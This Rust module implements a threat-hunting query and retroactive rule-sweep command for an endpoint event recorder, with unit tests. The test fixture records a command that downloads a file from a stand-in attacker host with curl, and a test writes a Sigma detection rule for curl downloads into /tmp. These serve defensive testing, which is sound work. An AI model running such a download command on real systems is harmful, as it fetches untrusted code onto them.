//! `osprey hunt`: questions to the recorder.
//!
//! Filters come in two kinds. Process filters (`--sha256`, `--cmdline`, `--user`, `--exe`) pick
//! processes by their exec events; event filters (`--ip`/`--cidr`, `--port`, `--domain`,
//! `--path`) pick events. Given both, the answer is the matching events of the matching
//! processes; given only process filters, the processes' exec events. `--since`/`--until`
//! bound the events' time. `--ioc FILE` and `--rules DIR` sweep the recorded documents with the
//! detection engine instead (retroactive detection).

use std::{
    collections::HashMap,
    net::IpAddr,
    path::PathBuf,
    sync::Arc,
    time::{SystemTime, UNIX_EPOCH},
};

use rusqlite::types::Value as Sql;
use serde::{Deserialize, Serialize};
use serde_json::Value;

use super::{index::ip_key, store::Store, StoreError};
use crate::detect::{Detector, JsonEvent, RuleSet};

/// One hunt, as the CLI and the control socket pass it.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(default, deny_unknown_fields)]
pub struct Hunt {
    pub sha256: Option<String>,
    /// An address or a CIDR block; matches either end of a connection or DNS exchange.
    pub ip: Option<String>,
    pub port: Option<u16>,
    /// A domain (`evil.example`) or a glob (`*.evil.example`).
    pub domain: Option<String>,
    /// A glob over `file.path` (`*` also crosses `/`).
    pub path: Option<String>,
    /// A substring of the command line.
    pub cmdline: Option<String>,
    pub user: Option<String>,
    /// A glob over the executable path.
    pub exe: Option<String>,
    pub host: Option<String>,
    /// Alerts only.
    pub alerts: bool,
    pub since_ns: Option<i64>,
    pub until_ns: Option<i64>,
    /// At most this many hits (0: 1000).
    pub limit: usize,
    /// Sweep the history with these rule files / directories or IoC lists instead.
    pub rules: Vec<PathBuf>,
}

/// One recorded event a hunt found.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Hit {
    pub id: i64,
    #[serde(rename = "@timestamp")]
    pub timestamp: String,
    pub host: String,
    pub kind: String,
    pub action: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub entity_id: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub pid: Option<i64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub executable: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub command_line: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub user: Option<String>,
    /// What the event was about: a path, a peer, a domain, a rule.
    pub object: String,
    /// The rule that matched, for sweeps.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub matched_rule: Option<String>,
    pub doc: Value,
}

#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Answer {
    pub hits: Vec<Hit>,
    /// More matched than `limit`.
    pub truncated: bool,
    /// Recorded events a sweep read.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub scanned: Option<u64>,
}

/// Parses `--since`/`--until`: a duration back from now (`24h`, `15m`) or an RFC 3339 time.
pub fn parse_time(s: &str) -> Result<i64, String> {
    if let Ok(d) = humantime::parse_duration(s) {
        let now = SystemTime::now().duration_since(UNIX_EPOCH).map_err(|e| e.to_string())?;
        return Ok(now.saturating_sub(d).as_nanos() as i64);
    }
    super::index::parse_ts(s).ok_or_else(|| format!("`{s}` is neither a duration like 24h nor an RFC 3339 time"))
}

/// A CIDR block (or one address) as the inclusive byte range of [`ip_key`]s it covers.
pub fn ip_range(s: &str) -> Result<([u8; 16], [u8; 16]), String> {
    let (addr, bits) = match s.split_once('/') {
        Some((a, b)) => (a, Some(b.parse::<u32>().map_err(|_| format!("`{s}`: bad prefix length"))?)),
        None => (s, None),
    };
    let ip: IpAddr = addr.parse().map_err(|_| format!("`{s}` is not an IP address or CIDR block"))?;
    let max = if ip.is_ipv4() { 32 } else { 128 };
    let bits = bits.unwrap_or(max);
    if bits > max {
        return Err(format!("`{s}`: prefix longer than {max}"));
    }
    let key = u128::from_be_bytes(ip_key(ip));
    let host_bits = max - bits;
    let mask = if host_bits == 128 { u128::MAX } else { (1u128 << host_bits) - 1 };
    Ok(((key & !mask).to_be_bytes(), (key | mask).to_be_bytes()))
}

impl Hunt {
    fn limit(&self) -> usize {
        if self.limit == 0 {
            1000
        } else {
            self.limit
        }
    }

    fn has_process_filter(&self) -> bool {
        self.sha256.is_some() || self.cmdline.is_some() || self.user.is_some() || self.exe.is_some()
    }

    fn has_event_filter(&self) -> bool {
        self.ip.is_some() || self.port.is_some() || self.domain.is_some() || self.path.is_some() || self.alerts
    }

    /// Checks the filters before any query runs.
    pub fn validate(&self) -> Result<(), String> {
        if let Some(ip) = &self.ip {
            ip_range(ip)?;
        }
        if let Some(h) = &self.sha256 {
            if h.len() != 64 || !h.bytes().all(|b| b.is_ascii_hexdigit()) {
                return Err(format!("--sha256 `{h}`: not 64 hex digits"));
            }
        }
        if let (Some(a), Some(b)) = (self.since_ns, self.until_ns) {
            if a > b {
                return Err("--since is after --until".into());
            }
        }
        Ok(())
    }

    /// Runs the hunt.
    pub fn run(&self, store: &Store) -> Result<Answer, HuntError> {
        self.validate().map_err(HuntError::Query)?;
        if !self.rules.is_empty() {
            return self.sweep(store);
        }
        let mut sql = String::from("SELECT id, ts, host, kind, action, entity, pid, exe, cmdline, user, block, slot FROM events WHERE 1=1");
        let mut args: Vec<Sql> = Vec::new();
        if self.has_process_filter() {
            let mut sub = String::from("SELECT DISTINCT entity FROM events WHERE cmdline IS NOT NULL");
            if let Some(h) = &self.sha256 {
                sub.push_str(" AND sha256 = ?");
                args.push(Sql::Text(h.to_ascii_lowercase()));
            }
            if let Some(c) = &self.cmdline {
                sub.push_str(" AND instr(cmdline, ?) > 0");
                args.push(Sql::Text(c.clone()));
            }
            if let Some(u) = &self.user {
                sub.push_str(" AND user = ?");
                args.push(Sql::Text(u.clone()));
            }
            if let Some(e) = &self.exe {
                sub.push_str(" AND exe GLOB ?");
                args.push(Sql::Text(e.clone()));
            }
            sql.push_str(&format!(" AND entity IN ({sub})"));
            if !self.has_event_filter() {
                sql.push_str(" AND cmdline IS NOT NULL");
            }
        }
        if let Some(ip) = &self.ip {
            let (lo, hi) = ip_range(ip).map_err(HuntError::Query)?;
            sql.push_str(" AND (src_ip BETWEEN ? AND ? OR dst_ip BETWEEN ? AND ?)");
            for b in [lo, hi, lo, hi] {
                args.push(Sql::Blob(b.to_vec()));
            }
        }
        if let Some(p) = self.port {
            sql.push_str(" AND (src_port = ? OR dst_port = ?)");
            args.push(Sql::Integer(p.into()));
            args.push(Sql::Integer(p.into()));
        }
        if let Some(d) = &self.domain {
            let d = d.trim_end_matches('.').to_ascii_lowercase();
            if d.contains(['*', '?', '[']) {
                sql.push_str(" AND domain GLOB ?");
            } else {
                sql.push_str(" AND domain = ?");
            }
            args.push(Sql::Text(d));
        }
        if let Some(p) = &self.path {
            sql.push_str(" AND path GLOB ?");
            args.push(Sql::Text(p.clone()));
        }
        if self.alerts {
            sql.push_str(" AND alert IS NOT NULL");
        }
        self.time_and_host(&mut sql, &mut args);
        sql_hits(store, &format!("{sql} ORDER BY ts, id LIMIT {}", self.limit() + 1), &args, self.limit())
    }

    fn time_and_host(&self, sql: &mut String, args: &mut Vec<Sql>) {
        if let Some(s) = self.since_ns {
            sql.push_str(" AND ts >= ?");
            args.push(Sql::Integer(s));
        }
        if let Some(u) = self.until_ns {
            sql.push_str(" AND ts <= ?");
            args.push(Sql::Integer(u));
        }
        if let Some(h) = &self.host {
            sql.push_str(" AND host = ?");
            args.push(Sql::Text(h.clone()));
        }
    }

    /// Runs rules or IoC lists over the recorded documents in the time range.
    fn sweep(&self, store: &Store) -> Result<Answer, HuntError> {
        let (set, report) = RuleSet::load(&self.rules);
        if !report.is_ok() {
            return Err(HuntError::Rules(report.errors.iter().map(ToString::to_string).collect::<Vec<_>>().join("\n")));
        }
        let mut det = Detector::new(Arc::new(set));
        let mut sql = String::from("SELECT id, ts, host, kind, action, entity, pid, exe, cmdline, user, block, slot FROM events WHERE kind = 'event'");
        let mut args = Vec::new();
        self.time_and_host(&mut sql, &mut args);
        sql.push_str(" ORDER BY ts, id");
        let mut st = store.conn.prepare(&sql).map_err(|e| store.err(e))?;
        let mut rows = st.query(rusqlite::params_from_iter(args)).map_err(|e| store.err(e))?;
        let mut answer = Answer { scanned: Some(0), ..Answer::default() };
        let mut alerts = Vec::new();
        let mut cmdlines = HashMap::new();
        while let Some(r) = rows.next().map_err(|e| store.err(e))? {
            *answer.scanned.as_mut().expect("set") += 1;
            let mut hit = hit_of(store, r)?;
            det.evaluate(&JsonEvent::new(&hit.doc), &mut alerts);
            for a in alerts.drain(..).filter(|a| a.standalone) {
                if answer.hits.len() == self.limit() {
                    answer.truncated = true;
                    break;
                }
                let mut h = hit.clone();
                h.matched_rule = Some(a.rule.title.clone());
                answer.hits.push(h);
            }
            hit.doc = Value::Null;
        }
        drop(rows);
        fill_cmdlines(store, &mut answer.hits, &mut cmdlines);
        Ok(answer)
    }
}

#[derive(Debug, thiserror::Error)]
pub enum HuntError {
    #[error("{0}")]
    Store(#[from] StoreError),
    #[error("hunt: {0}")]
    Query(String),
    #[error("rules:\n{0}")]
    Rules(String),
}

fn hit_of(store: &Store, r: &rusqlite::Row<'_>) -> Result<Hit, StoreError> {
    let get = |e| store.err(e);
    let doc = store.doc(r.get(10).map_err(get)?, r.get(11).map_err(get)?)?;
    let ts: i64 = r.get(1).map_err(get)?;
    let hit = || -> rusqlite::Result<Hit> { Ok(Hit {
        id: r.get(0)?,
        timestamp: crate::event::rfc3339(ts as u64),
        host: r.get(2)?,
        kind: r.get(3)?,
        action: r.get(4)?,
        entity_id: r.get(5)?,
        pid: r.get(6)?,
        executable: r.get(7)?,
        command_line: r.get(8)?,
        user: r.get(9)?,
        object: describe(&doc),
        matched_rule: None,
        doc: doc.clone(),
    }) };
    hit().map_err(get)
}

fn sql_hits(store: &Store, sql: &str, args: &[Sql], limit: usize) -> Result<Answer, HuntError> {
    let mut st = store.conn.prepare(sql).map_err(|e| store.err(e))?;
    let mut rows = st.query(rusqlite::params_from_iter(args)).map_err(|e| store.err(e))?;
    let mut hits = Vec::new();
    while let Some(r) = rows.next().map_err(|e| store.err(e))? {
        hits.push(hit_of(store, r)?);
    }
    drop(rows);
    let truncated = hits.len() > limit;
    hits.truncate(limit);
    fill_cmdlines(store, &mut hits, &mut HashMap::new());
    Ok(Answer { hits, truncated, scanned: None })
}

/// Events other than execs name their process by entity id: take its command line from its
/// (latest) exec.
fn fill_cmdlines(store: &Store, hits: &mut [Hit], cache: &mut HashMap<String, Option<String>>) {
    for h in hits.iter_mut().filter(|h| h.command_line.is_none()) {
        let Some(e) = &h.entity_id else { continue };
        let c = cache.entry(e.clone()).or_insert_with(|| {
            store
                .conn
                .query_row(
                    "SELECT cmdline FROM events WHERE entity = ?1 AND cmdline IS NOT NULL ORDER BY ts DESC LIMIT 1",
                    [e],
                    |r| r.get(0),
                )
                .ok()
        });
        h.command_line.clone_from(c);
    }
}

/// A one-line summary of what an event was about.
pub fn describe(doc: &Value) -> String {
    let s = |p: &[&str]| -> Option<String> {
        let mut v = doc;
        for k in p {
            v = v.get(k)?;
        }
        match v {
            Value::String(s) => Some(s.clone()),
            Value::Number(n) => Some(n.to_string()),
            _ => None,
        }
    };
    let kind = s(&["event", "kind"]).unwrap_or_default();
    let action = s(&["event", "action"]).unwrap_or_default();
    if kind == "alert" {
        return format!("rule \"{}\"", s(&["rule", "name"]).unwrap_or_default());
    }
    if action == "osprey-response" {
        let r = &doc["osprey"]["response"];
        return format!(
            "{} {} → {}",
            r["action"].as_str().unwrap_or(""),
            r["target"].as_str().unwrap_or(""),
            r["result"].as_str().unwrap_or("")
        );
    }
    if action == "exec" {
        return s(&["process", "command_line"]).unwrap_or_default();
    }
    if let Some(q) = s(&["dns", "question", "name"]) {
        let answers: Vec<&str> = doc["dns"]["resolved_ip"].as_array().into_iter().flatten().filter_map(Value::as_str).collect();
        return if answers.is_empty() { q } else { format!("{q} → {}", answers.join(", ")) };
    }
    if let Some(ip) = s(&["destination", "ip"]) {
        let port = s(&["destination", "port"]).map(|p| format!(":{p}")).unwrap_or_default();
        let dom = s(&["destination", "domain"]).map(|d| format!(" ({d})")).unwrap_or_default();
        let src = s(&["source", "ip"]).map(|i| format!("{i}:{} → ", s(&["source", "port"]).unwrap_or_default())).unwrap_or_default();
        return format!("{src}{ip}{port}{dom}");
    }
    if let Some(p) = s(&["file", "path"]) {
        return match s(&["file", "Ext", "original", "path"]) {
            Some(orig) => format!("{orig} → {p}"),
            None => p,
        };
    }
    if let Some(u) = s(&["user", "id"]) {
        return format!("user {u}{}", s(&["user", "name"]).map(|n| format!(" ({n})")).unwrap_or_default());
    }
    if action == "exit" {
        return s(&["process", "exit_code"]).map(|c| format!("exit code {c}")).unwrap_or_default();
    }
    String::new()
}

/// The answer as a table for the terminal.
pub fn print_table(a: &Answer, out: &mut dyn std::io::Write) -> std::io::Result<()> {
    writeln!(out, "{:<30} {:<12} {:>7} {:<20} {:<22} OBJECT / COMMAND", "TIME", "HOST", "PID", "PROCESS", "ACTION")?;
    for h in &a.hits {
        let name = h.executable.as_deref().map(|e| e.rsplit('/').next().unwrap_or(e)).unwrap_or("-");
        let action = match &h.matched_rule {
            Some(r) => format!("{} [{}]", h.action, r),
            None => h.action.clone(),
        };
        let object = if h.object.is_empty() { h.command_line.clone().unwrap_or_default() } else { h.object.clone() };
        let host: String = h.host.chars().take(12).collect();
        writeln!(out, "{:<30} {:<12} {:>7} {:<20} {:<22} {}", h.timestamp, host, h.pid.unwrap_or(0), name, action, object)?;
    }
    if a.truncated {
        writeln!(out, "(more matched: raise --limit)")?;
    }
    if let Some(n) = a.scanned {
        writeln!(out, "{} hit(s) in {n} recorded event(s)", a.hits.len())?;
    }
    Ok(())
}

/// A fleet answer: the table, one section per host (hits are grouped by host already).
pub fn print_by_host(a: &Answer, out: &mut dyn std::io::Write) -> std::io::Result<()> {
    let mut i = 0;
    while i < a.hits.len() {
        let host = &a.hits[i].host;
        let n = a.hits[i..].iter().take_while(|h| &h.host == host).count();
        writeln!(out, "== host {host}: {n} hit(s)")?;
        let part = Answer { hits: a.hits[i..i + n].to_vec(), truncated: false, scanned: None };
        print_table(&part, out)?;
        i += n;
    }
    if a.truncated {
        writeln!(out, "(more matched: raise --limit)")?;
    }
    if let Some(n) = a.scanned {
        writeln!(out, "{} hit(s) in {n} recorded event(s)", a.hits.len())?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::recorder::index::row;

    fn put(store: &mut Store, docs: &[String]) {
        let rows: Vec<_> = docs.iter().map(|d| row(d.as_bytes(), None).unwrap()).collect();
        store.insert(rows.iter().zip(docs).map(|(r, d)| (r, d.as_bytes()))).unwrap();
    }

    fn ts(s: i64) -> String {
        crate::event::rfc3339(1_800_000_000_000_000_000 + s as u64 * 1_000_000_000)
    }

    fn fixture() -> (tempfile::TempDir, Store) {
        let dir = tempfile::tempdir().unwrap();
        let mut s = Store::open(&dir.path().join("r.db")).unwrap();
        let h = "a".repeat(64);
        put(
            &mut s,
            &[
                format!(r#"{{"@timestamp":"{}","event":{{"action":"exec","category":["process"],"type":["start"]}},"host":{{"id":"h1"}},"process":{{"pid":10,"entity_id":"p10","executable":"/usr/bin/curl","command_line":"curl http://evil.example/x -o /tmp/x","hash":{{"sha256":"{h}"}},"user":{{"name":"www-data"}},"parent":{{"entity_id":"p1"}}}}}}"#, ts(0)),
                format!(r#"{{"@timestamp":"{}","event":{{"action":"query","category":["network"],"type":["protocol"]}},"host":{{"id":"h1"}},"process":{{"pid":10,"entity_id":"p10","executable":"/usr/bin/curl"}},"dns":{{"question":{{"name":"evil.example."}}}}}}"#, ts(1)),
                format!(r#"{{"@timestamp":"{}","event":{{"action":"connection_attempted","category":["network"],"type":["connection"]}},"host":{{"id":"h1"}},"process":{{"pid":10,"entity_id":"p10","executable":"/usr/bin/curl"}},"source":{{"ip":"10.0.0.5","port":40000}},"destination":{{"ip":"203.0.113.7","port":443,"domain":"evil.example"}}}}"#, ts(2)),
                format!(r#"{{"@timestamp":"{}","event":{{"action":"creation","category":["file"],"type":["creation"]}},"host":{{"id":"h1"}},"process":{{"pid":10,"entity_id":"p10","executable":"/usr/bin/curl"}},"file":{{"path":"/tmp/x"}}}}"#, ts(3)),
                format!(r#"{{"@timestamp":"{}","event":{{"action":"exec","category":["process"],"type":["start"]}},"host":{{"id":"h1"}},"process":{{"pid":11,"entity_id":"p11","executable":"/usr/bin/ls","command_line":"ls /","user":{{"name":"root"}},"parent":{{"entity_id":"p1"}}}}}}"#, ts(4)),
                format!(r#"{{"@timestamp":"{}","event":{{"action":"connection_attempted","category":["network"],"type":["connection"]}},"host":{{"id":"h1"}},"process":{{"pid":11,"entity_id":"p11","executable":"/usr/bin/ls"}},"destination":{{"ip":"2001:db8::1","port":53}}}}"#, ts(5)),
            ],
        );
        (dir, s)
    }

    fn actions(a: &Answer) -> Vec<(String, String)> {
        a.hits.iter().map(|h| (h.entity_id.clone().unwrap_or_default(), h.action.clone())).collect()
    }

    fn pairs(v: &[(&str, &str)]) -> Vec<(String, String)> {
        v.iter().map(|(a, b)| ((*a).to_owned(), (*b).to_owned())).collect()
    }

    #[test]
    fn hunts_by_each_field_and_their_combinations() {
        let (_d, s) = fixture();
        let run = |h: Hunt| h.run(&s).unwrap();
        let a = run(Hunt { ip: Some("203.0.113.7".into()), ..Hunt::default() });
        assert_eq!(actions(&a), pairs(&[("p10", "connection_attempted")]));
        assert_eq!(a.hits[0].command_line.as_deref(), Some("curl http://evil.example/x -o /tmp/x"), "from its exec");
        assert!(a.hits[0].object.contains("203.0.113.7:443"), "{}", a.hits[0].object);
        assert_eq!(actions(&run(Hunt { ip: Some("203.0.113.0/24".into()), ..Hunt::default() })).len(), 1);
        assert_eq!(actions(&run(Hunt { ip: Some("10.0.0.0/8".into()), ..Hunt::default() })).len(), 1, "source side too");
        assert_eq!(actions(&run(Hunt { ip: Some("2001:db8::/32".into()), ..Hunt::default() })), pairs(&[("p11", "connection_attempted")]));
        assert_eq!(actions(&run(Hunt { ip: Some("0.0.0.0/0".into()), ..Hunt::default() })).len(), 1, "IPv4 only");
        assert_eq!(actions(&run(Hunt { ip: Some("::/0".into()), ..Hunt::default() })).len(), 2);
        assert_eq!(actions(&run(Hunt { domain: Some("evil.example".into()), ..Hunt::default() })).len(), 2);
        assert_eq!(actions(&run(Hunt { domain: Some("*.example".into()), ..Hunt::default() })).len(), 2);
        assert_eq!(actions(&run(Hunt { path: Some("/tmp/*".into()), ..Hunt::default() })), pairs(&[("p10", "creation")]));
        assert_eq!(actions(&run(Hunt { sha256: Some("A".repeat(64)), ..Hunt::default() })), pairs(&[("p10", "exec")]));
        assert_eq!(actions(&run(Hunt { cmdline: Some("evil.example/x".into()), ..Hunt::default() })), pairs(&[("p10", "exec")]));
        assert_eq!(actions(&run(Hunt { user: Some("root".into()), ..Hunt::default() })), pairs(&[("p11", "exec")]));
        assert_eq!(actions(&run(Hunt { exe: Some("*/curl".into()), ..Hunt::default() })), pairs(&[("p10", "exec")]));
        // process filter + event filter: that process's matching events
        let a = run(Hunt { user: Some("www-data".into()), port: Some(443), ..Hunt::default() });
        assert_eq!(actions(&a), pairs(&[("p10", "connection_attempted")]));
        assert!(run(Hunt { user: Some("root".into()), port: Some(443), ..Hunt::default() }).hits.is_empty());
        // time
        let since = crate::recorder::index::parse_ts(&ts(2)).unwrap();
        let a = run(Hunt { since_ns: Some(since), until_ns: Some(since + 1_000_000_000), ..Hunt::default() });
        assert_eq!(actions(&a), pairs(&[("p10", "connection_attempted"), ("p10", "creation")]));
        let a = run(Hunt { limit: 2, ..Hunt::default() });
        assert!(a.truncated && a.hits.len() == 2);
        // bad input is named
        assert!(Hunt { ip: Some("10.0.0.0/33".into()), ..Hunt::default() }.run(&s).unwrap_err().to_string().contains("prefix"));
        assert!(Hunt { sha256: Some("xyz".into()), ..Hunt::default() }.validate().unwrap_err().contains("64 hex"));
        assert!(parse_time("yesterday").unwrap_err().contains("yesterday"));
        assert!(parse_time("24h").unwrap() > 0);
    }

    #[test]
    fn sweeps_history_with_ioc_lists_and_sigma_rules() {
        let (dir, s) = fixture();
        let ioc = dir.path().join("bad.ioc.yaml");
        std::fs::write(&ioc, "title: Bad infra\nips:\n  - 203.0.113.0/24\ndomains:\n  - evil.example\n").unwrap();
        let a = Hunt { rules: vec![ioc], ..Hunt::default() }.run(&s).unwrap();
        assert_eq!(a.scanned, Some(6));
        assert!(a.hits.iter().all(|h| h.matched_rule.as_deref() == Some("Bad infra")));
        assert!(a.hits.iter().any(|h| h.action == "connection_attempted"), "{:?}", actions(&a));
        let rule = dir.path().join("curl.yml");
        std::fs::write(
            &rule,
            "title: Curl download to tmp\nid: 11111111-2222-3333-4444-555555555555\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image|endswith: /curl\n    CommandLine|contains: ' -o /tmp/'\n  condition: sel\nlevel: high\n",
        )
        .unwrap();
        let a = Hunt { rules: vec![rule], ..Hunt::default() }.run(&s).unwrap();
        assert_eq!(actions(&a), pairs(&[("p10", "exec")]));
        let bad = dir.path().join("bad.yml");
        std::fs::write(&bad, "title: x\ndetection: {condition: nope}\n").unwrap();
        let e = Hunt { rules: vec![bad.clone()], ..Hunt::default() }.run(&s).unwrap_err().to_string();
        assert!(e.contains("bad.yml"), "{e}");
    }
}
